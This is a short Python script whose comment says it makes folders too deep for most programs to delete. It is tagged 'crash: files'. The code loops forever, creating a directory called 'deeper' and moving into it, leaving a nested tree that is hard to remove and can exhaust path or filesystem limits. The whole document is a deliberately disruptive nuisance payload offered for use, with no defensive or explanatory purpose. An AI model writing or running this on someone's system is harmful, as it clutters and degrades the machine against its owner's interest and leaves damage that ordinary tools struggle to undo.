# Makes folders in folders, too deep for most programs to delete.
# crash: files

import os

while True:
    os.mkdir("deeper")
    os.chdir("deeper")
